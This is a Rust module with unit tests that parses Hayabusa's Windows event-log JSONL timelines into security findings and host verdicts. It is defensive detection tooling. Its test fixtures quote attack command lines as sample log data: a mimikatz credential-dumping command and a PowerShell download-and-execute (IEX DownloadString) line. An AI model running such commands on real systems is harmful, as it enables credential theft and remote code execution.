//! `hayabusa`: Yamato Security's Windows event-log hunter, its JSONL timeline
//! (`hayabusa json-timeline -L -o FILE.jsonl`; since 4.0 `hayabusa dfir-timeline -t jsonl
//! -o FILE.jsonl`), one detection per line.
//!
//! The fields depend on the output profile: `minimal` writes Timestamp, RuleTitle, Level,
//! Computer, Channel, EventID, RecordID and Details; `standard` (the default) adds
//! ExtraFieldInfo and RuleID; `verbose` adds MitreTactics, MitreTags, OtherTags, RuleFile and
//! EvtxFile. EventID and RecordID are numbers when they are numbers, Details and
//! ExtraFieldInfo objects, the tag fields lists. Versions before 3.6 wrote `-` for a value
//! they did not have (the record ID of a correlation rule, an empty Details); 3.6 and later
//! write an empty string or leave the field out. `Level` is abbreviated by default (`info`,
//! `low`, `med`, `high`, `crit`, `emer`) and spelled out with `--disable-abbreviations`;
//! both are read, emergency as critical.
//!
//! A line is a detection when its level is at least the playbook's `results.min_level`
//! (default medium); lines below it are counted in the report's format line, not findings.
//! Each detection is a finding of kind `event` (title the rule, location computer and
//! channel), identity rule + computer + record ID (the timestamp when there is no record
//! ID). Hayabusa has no end marker: the timeline is clean only when Hayabusa exited 0, the
//! file ends with a line end and every line is a JSON object with a rule title.
//!
//! Hayabusa is not installed by the tests (no build for this platform): they read JSONL
//! written to the formats above for 3.5 and 4.0, taken from Hayabusa's source.

// The parser reads untrusted bytes: make any panicking shortcut a compile error outside the
// tests rather than rely on review.
#![cfg_attr(
    not(test),
    deny(
        clippy::indexing_slicing,
        clippy::unwrap_used,
        clippy::expect_used,
        clippy::panic
    )
)]

use std::collections::BTreeMap;

use serde_json::Value;

use super::{
    detected_verdict, exit_text, first_detected, first_line, lines_status,
    no_usable_report_verdict, timed_out_verdict, warn, whole_lines, Entry, FetchedReport,
    ResultParser, Settings, Verdict,
};
use crate::model::{ExecOutcome, Finding, HostClass, ParsedReport, ReportStatus, Severity};
use crate::sanitize;

/// The kind of every finding of this parser.
pub const KIND: &str = "event";
/// The least level that is a detection when the playbook does not say.
pub const DEFAULT_MIN_LEVEL: Severity = Severity::Medium;

pub const ENTRY: Entry = Entry {
    name: "hayabusa",
    checker: "Hayabusa",
    reads: "Hayabusa's JSONL timeline, one detection per line at or above results.min_level",
    attributes: &[
        "computer",
        "channel",
        "event_id",
        "record_id",
        "timestamp",
        "level",
        "rule_id",
        "rule_file",
        "evtx_file",
        "mitre_tactics",
        "mitre_tags",
        "other_tags",
        "details",
        "extra",
    ],
    build: |s: &Settings| {
        Box::new(HayabusaParser {
            min_level: s.min_level.unwrap_or(DEFAULT_MIN_LEVEL),
        })
    },
};

/// Only this much of a file is read.
const MAX_INPUT: usize = 64 * 1024 * 1024;
/// Findings kept per file.
const MAX_FINDINGS: usize = 10_000;
/// Characters kept per field.
const MAX_FIELD: usize = 4 * 1024;
/// Entries of Details / ExtraFieldInfo kept.
const MAX_DETAILS: usize = 32;

/// Hayabusa's JSONL timeline (see the module's documentation).
pub struct HayabusaParser {
    pub min_level: Severity,
}

/// A level as Hayabusa (or a rule's meta) writes it, full or abbreviated, any case.
pub fn level(s: &str) -> Option<Severity> {
    Some(match s.trim().to_ascii_lowercase().as_str() {
        "informational" | "info" => Severity::Info,
        "low" => Severity::Low,
        "medium" | "med" => Severity::Medium,
        "high" => Severity::High,
        "critical" | "crit" | "emergency" | "emer" => Severity::Critical,
        _ => return None,
    })
}

fn capped(s: &str) -> String {
    s.chars().take(MAX_FIELD).collect()
}

/// A field as text: strings as they are, numbers and booleans written out, lists joined
/// with `, `, objects as `key: value ¦ ...` (Hayabusa's own Details separator). A `-`
/// (before 3.6) or empty value is no value.
fn text(v: Option<&Value>) -> Option<String> {
    let s = match v? {
        Value::String(s) => capped(s),
        Value::Number(n) => n.to_string(),
        Value::Bool(b) => b.to_string(),
        Value::Array(items) => {
            let parts: Vec<String> = items
                .iter()
                .take(MAX_DETAILS)
                .filter_map(|i| text(Some(i)))
                .collect();
            capped(&parts.join(", "))
        }
        Value::Object(o) => {
            let parts: Vec<String> = o
                .iter()
                .take(MAX_DETAILS)
                .filter_map(|(k, v)| text(Some(v)).map(|v| format!("{k}: {v}")))
                .collect();
            capped(&parts.join(" ¦ "))
        }
        Value::Null => return None,
    };
    let t = s.trim();
    (!t.is_empty() && t != "-").then_some(s)
}

/// The report of one timeline, detections at or above `min_level`. Never panics.
pub fn parse(bytes: &[u8], min_level: Severity) -> ParsedReport {
    let mut warnings = Vec::new();
    let (bytes, mut complete) = whole_lines(bytes, MAX_INPUT, "input beyond 64 MiB", &mut warnings);
    let mut findings = Vec::new();
    let (mut lines_read, mut below, mut dropped) = (0u64, 0u64, 0u64);
    let mut computers = Vec::<String>::new();
    for (i, raw) in bytes.split(|b| *b == b'\n').enumerate() {
        let line = i + 1;
        let raw = raw.trim_ascii();
        if raw.is_empty() {
            continue;
        }
        let obj = match serde_json::from_slice::<Value>(raw) {
            Ok(Value::Object(o)) => o,
            _ => {
                warn(&mut warnings, format!("line {line}: not a JSON object"));
                complete = false;
                continue;
            }
        };
        let Some(rule) = text(obj.get("RuleTitle")) else {
            warn(&mut warnings, format!("line {line}: no RuleTitle"));
            complete = false;
            continue;
        };
        lines_read += 1;
        let level_text = text(obj.get("Level")).unwrap_or_default();
        let severity = match level(&level_text) {
            Some(s) => s,
            None => {
                // An unknown level is shown, never dropped as informational.
                warn(
                    &mut warnings,
                    format!(
                        "line {line}: unknown level {:?}, read as high",
                        sanitize::display(&level_text, 40)
                    ),
                );
                Severity::High
            }
        };
        if severity < min_level {
            below += 1;
            continue;
        }
        if findings.len() >= MAX_FINDINGS {
            dropped += 1;
            continue;
        }
        let computer = text(obj.get("Computer")).unwrap_or_default();
        let channel = text(obj.get("Channel")).unwrap_or_default();
        let record = text(obj.get("RecordID"));
        let timestamp = text(obj.get("Timestamp")).unwrap_or_default();
        let mut attributes = BTreeMap::new();
        let mut put = |name: &str, field: &str| {
            if let Some(v) = text(obj.get(field)) {
                attributes.insert(name.to_string(), v);
            }
        };
        put("computer", "Computer");
        put("channel", "Channel");
        put("event_id", "EventID");
        put("record_id", "RecordID");
        put("timestamp", "Timestamp");
        put("level", "Level");
        put("rule_id", "RuleID");
        put("rule_file", "RuleFile");
        put("evtx_file", "EvtxFile");
        put("mitre_tactics", "MitreTactics");
        put("mitre_tags", "MitreTags");
        put("other_tags", "OtherTags");
        put("details", "Details");
        put("extra", "ExtraFieldInfo");
        if !computer.is_empty() && !computers.contains(&computer) && computers.len() < 4 {
            computers.push(computer.clone());
        }
        let location = match (computer.is_empty(), channel.is_empty()) {
            (false, false) => format!("{computer} / {channel}"),
            (false, true) => computer.clone(),
            (true, _) => channel.clone(),
        };
        // A correlation rule's detection has no single record: its time tells it apart.
        let which = record.unwrap_or_else(|| format!("@{timestamp}"));
        findings.push(Finding {
            kind: KIND.to_string(),
            identity: format!("hayabusa|{rule}|{computer}|{which}"),
            title: rule,
            location,
            severity,
            attributes,
        });
    }
    if dropped > 0 {
        warn(
            &mut warnings,
            format!("truncated: {dropped} detection(s) beyond {MAX_FINDINGS} ignored"),
        );
    }
    let status = lines_status(&findings, complete);
    ParsedReport {
        status,
        hostname: (computers.len() == 1)
            .then(|| computers.into_iter().next())
            .flatten(),
        scan_time: None,
        checker_version: None,
        format: Some(format!(
            "jsonl ({lines_read} line(s), {below} below {})",
            min_level.as_str()
        )),
        findings,
        warnings,
    }
}

impl ResultParser for HayabusaParser {
    fn name(&self) -> &'static str {
        "hayabusa"
    }

    fn wants_files(&self) -> bool {
        true
    }

    fn recency(&self, _file_name: &str, mtime: Option<u64>) -> (u8, String) {
        (0, format!("{:020}", mtime.unwrap_or(0)))
    }

    fn parse_file(&self, _file_name: &str, bytes: &[u8]) -> ParsedReport {
        parse(bytes, self.min_level)
    }

    fn verdict(
        &self,
        exec: &ExecOutcome,
        reports: &[FetchedReport],
        problems: &[String],
    ) -> Verdict {
        if let Some((i, r)) = first_detected(reports) {
            let shown: Vec<String> = r
                .parsed
                .findings
                .iter()
                .take(5)
                .map(|f| {
                    format!(
                        "{} {}",
                        f.severity.as_str(),
                        sanitize::display(&f.title, 80)
                    )
                })
                .collect();
            let reason = format!(
                "{} detection(s) at or above {}: {}",
                r.parsed.findings.len(),
                self.min_level.as_str(),
                shown.join(", ")
            );
            return detected_verdict(i, reason, r);
        }
        if exec.timed_out {
            return timed_out_verdict();
        }
        let finished = exec.exit_signal.is_none() && exec.exit_code == Some(0);
        match reports.first() {
            Some(r) if r.parsed.status == ReportStatus::NotDetected && finished => Verdict {
                class: HostClass::NotDetected,
                reason: format!(
                    "nothing at or above {} ({})",
                    self.min_level.as_str(),
                    r.parsed.format.as_deref().unwrap_or("jsonl")
                ),
                primary: Some(0),
            },
            Some(r) => {
                let mut reason = format!(
                    "timeline {} not trusted as clean ({})",
                    sanitize::display(&r.name, 120),
                    exit_text(exec)
                );
                if !r.parsed.warnings.is_empty() {
                    reason.push_str(&format!(": {}", r.parsed.warnings.join("; ")));
                }
                if let Some(line) = first_line(&exec.stderr) {
                    reason.push_str(&format!("; stderr: {line}"));
                }
                Verdict {
                    class: HostClass::CheckerFailed,
                    reason,
                    primary: Some(0),
                }
            }
            None if !problems.is_empty() => no_usable_report_verdict(problems),
            None => {
                let mut reason = format!("no timeline written ({})", exit_text(exec));
                if let Some(line) = first_line(&exec.stderr).or_else(|| first_line(&exec.stdout)) {
                    reason.push_str(&format!("; {line}"));
                }
                Verdict {
                    class: if finished {
                        HostClass::NoResult
                    } else {
                        HostClass::CheckerFailed
                    },
                    reason,
                    primary: None,
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `json-timeline -L`, standard profile, as 3.5 wrote it: `-` for missing values.
    const V3_5: &[u8] = br#"{"Timestamp":"2025-08-10 09:12:01.123 +09:00","RuleTitle":"Mimikatz Use","Level":"crit","Computer":"PC-SALES-014","Channel":"Sec","EventID":4688,"RecordID":8812,"Details":{"Cmdline":"mimikatz.exe \"sekurlsa::logonpasswords\"","Proc":"C:\\Temp\\m.exe"},"ExtraFieldInfo":{"SubjectUserName":"tanaka"},"RuleID":"c0ffee00-0000-4000-8000-000000000001"}
{"Timestamp":"2025-08-10 09:12:05.000 +09:00","RuleTitle":"Logon (Network)","Level":"info","Computer":"PC-SALES-014","Channel":"Sec","EventID":4624,"RecordID":8813,"Details":"-","ExtraFieldInfo":"-","RuleID":"c0ffee00-0000-4000-8000-000000000002"}
{"Timestamp":"2025-08-10 09:13:00.000 +09:00","RuleTitle":"Brute Force (correlation)","Level":"med","Computer":"PC-SALES-014","Channel":"Sec","EventID":"-","RecordID":"-","Details":"-","ExtraFieldInfo":"-","RuleID":"c0ffee00-0000-4000-8000-000000000003"}
"#;

    /// `dfir-timeline -t jsonl`, verbose profile, as 4.0 writes it: empty values left out,
    /// full level names with `--disable-abbreviations`.
    const V4_0: &[u8] = br#"{"Timestamp":"2026-11-30 01:02:03.456 +09:00","RuleTitle":"Suspicious PowerShell Download","Level":"high","Computer":"PC-KEIRI-004","Channel":"PwSh","EventID":4104,"MitreTactics":["Exec"],"MitreTags":["T1059.001"],"OtherTags":[],"RecordID":51,"Details":{"ScriptBlock":"IEX (New-Object Net.WebClient).DownloadString('http://x')"},"ExtraFieldInfo":{},"RuleFile":"win_ps_download.yml","RuleID":"c0ffee00-0000-4000-8000-000000000004","EvtxFile":"C:\\Windows\\System32\\winevt\\Logs\\Microsoft-Windows-PowerShell%4Operational.evtx"}
{"Timestamp":"2026-11-30 01:05:00.000 +09:00","RuleTitle":"Brute Force (correlation)","Level":"medium","Computer":"PC-KEIRI-004","Channel":"Sec","RecordID":"","RuleFile":"bf.yml","RuleID":"c0ffee00-0000-4000-8000-000000000003"}
{"Timestamp":"2026-11-30 01:06:00.000 +09:00","RuleTitle":"Logon","Level":"informational","Computer":"PC-KEIRI-004","Channel":"Sec","EventID":4624,"RecordID":52,"RuleFile":"logon.yml","RuleID":"c0ffee00-0000-4000-8000-000000000002"}
"#;

    fn ok() -> ExecOutcome {
        ExecOutcome {
            exit_code: Some(0),
            ..Default::default()
        }
    }

    #[test]
    fn version_3_5_lines_at_or_above_min_level_are_detections() {
        let r = parse(V3_5, Severity::Medium);
        assert_eq!(r.status, ReportStatus::Detected, "{:?}", r.warnings);
        assert_eq!(
            r.findings.len(),
            2,
            "the informational logon is below medium"
        );
        let f = &r.findings[0];
        assert_eq!(f.title, "Mimikatz Use");
        assert_eq!(f.severity, Severity::Critical);
        assert_eq!(f.location, "PC-SALES-014 / Sec");
        assert_eq!(f.identity, "hayabusa|Mimikatz Use|PC-SALES-014|8812");
        assert_eq!(f.attr("event_id"), Some("4688"));
        assert_eq!(
            f.attr("details"),
            Some("Cmdline: mimikatz.exe \"sekurlsa::logonpasswords\" ¦ Proc: C:\\Temp\\m.exe")
        );
        assert_eq!(f.attr("extra"), Some("SubjectUserName: tanaka"));
        // `-` is no value: the correlation line has no record, its time identifies it.
        let c = &r.findings[1];
        assert_eq!(c.attr("record_id"), None);
        assert_eq!(c.attr("details"), None);
        assert_eq!(
            c.identity,
            "hayabusa|Brute Force (correlation)|PC-SALES-014|@2025-08-10 09:13:00.000 +09:00"
        );
        assert_eq!(r.hostname.as_deref(), Some("PC-SALES-014"));
        assert_eq!(
            r.format.as_deref(),
            Some("jsonl (3 line(s), 1 below medium)")
        );
        // With min_level informational every line is one.
        assert_eq!(parse(V3_5, Severity::Info).findings.len(), 3);
        assert_eq!(parse(V3_5, Severity::Critical).findings.len(), 1);
    }

    #[test]
    fn version_4_0_verbose_lines_with_fields_left_out() {
        let r = parse(V4_0, Severity::Medium);
        assert_eq!(r.status, ReportStatus::Detected, "{:?}", r.warnings);
        assert_eq!(r.findings.len(), 2);
        let f = &r.findings[0];
        assert_eq!(f.severity, Severity::High);
        assert_eq!(f.attr("mitre_tags"), Some("T1059.001"));
        assert_eq!(f.attr("mitre_tactics"), Some("Exec"));
        assert_eq!(f.attr("other_tags"), None, "an empty list is no value");
        assert_eq!(f.attr("extra"), None);
        assert_eq!(f.attr("rule_file"), Some("win_ps_download.yml"));
        assert!(f.attr("evtx_file").is_some_and(|e| e.ends_with(".evtx")));
        assert_eq!(
            f.identity,
            "hayabusa|Suspicious PowerShell Download|PC-KEIRI-004|51"
        );
        assert!(r.findings[1]
            .identity
            .ends_with("|@2026-11-30 01:05:00.000 +09:00"));
        // Only informational lines: clean, when Hayabusa finished.
        let info_only =
            b"{\"RuleTitle\":\"Logon\",\"Level\":\"info\",\"Computer\":\"A\",\"RecordID\":1}\n";
        let rep = FetchedReport {
            name: "t.jsonl".into(),
            parsed: parse(info_only, Severity::Medium),
        };
        let p = HayabusaParser {
            min_level: Severity::Medium,
        };
        assert_eq!(rep.parsed.status, ReportStatus::NotDetected);
        let v = p.verdict(&ok(), std::slice::from_ref(&rep), &[]);
        assert_eq!(v.class, HostClass::NotDetected, "{}", v.reason);
        assert_eq!(
            v.reason,
            "nothing at or above medium (jsonl (1 line(s), 1 below medium))"
        );
        // ... but not when it failed or was cut.
        let failed = ExecOutcome {
            exit_code: Some(1),
            ..Default::default()
        };
        assert_eq!(
            p.verdict(&failed, &[rep], &[]).class,
            HostClass::CheckerFailed
        );
        let cut = FetchedReport {
            name: "t.jsonl".into(),
            parsed: parse(&info_only[..30], Severity::Medium),
        };
        assert_eq!(
            p.verdict(&ok(), &[cut], &[]).class,
            HostClass::CheckerFailed
        );
        assert_eq!(p.verdict(&ok(), &[], &[]).class, HostClass::NoResult);
    }

    #[test]
    fn levels_full_and_abbreviated() {
        for (s, l) in [
            ("informational", Severity::Info),
            ("info", Severity::Info),
            ("LOW", Severity::Low),
            ("med", Severity::Medium),
            ("medium", Severity::Medium),
            ("high", Severity::High),
            ("crit", Severity::Critical),
            ("critical", Severity::Critical),
            ("emer", Severity::Critical),
        ] {
            assert_eq!(level(s), Some(l), "{s}");
        }
        assert_eq!(level("undef"), None);
        // An unknown level is a detection (read as high) with a warning, never dropped.
        let r = parse(
            b"{\"RuleTitle\":\"X\",\"Level\":\"\\u001b[31m\"}\n",
            Severity::High,
        );
        assert_eq!(r.findings.len(), 1);
        assert!(r.warnings[0].contains("\\x1b[31m"), "{:?}", r.warnings);
    }

    #[test]
    fn hostile_timelines_are_bounded() {
        let mut s = String::new();
        for i in 0..100_000 {
            s.push_str(&format!(
                "{{\"RuleTitle\":\"<script>R</script>\",\"Level\":\"high\",\"Computer\":\"\\u001b[2J{i}\",\"RecordID\":{i}}}\n"
            ));
        }
        let r = parse(s.as_bytes(), Severity::Medium);
        assert_eq!(r.findings.len(), MAX_FINDINGS);
        assert!(r
            .warnings
            .iter()
            .any(|w| w.contains("90000 detection(s) beyond")));
        let mut b = b"{\"RuleTitle\":\"\xff\xfe\",\"Level\":\"high\"}\n".to_vec();
        b.extend(std::iter::repeat_n(b'{', 3_000_000));
        b.push(b'\n');
        let r = parse(&b, Severity::Medium);
        assert_eq!(r.status, ReportStatus::Unparseable, "{:?}", r.warnings);
        let long = format!(
            "{{\"RuleTitle\":\"{}\",\"Level\":\"high\"}}\n",
            "r".repeat(100_000)
        );
        assert_eq!(
            parse(long.as_bytes(), Severity::Info).findings[0]
                .title
                .chars()
                .count(),
            MAX_FIELD
        );
    }
}
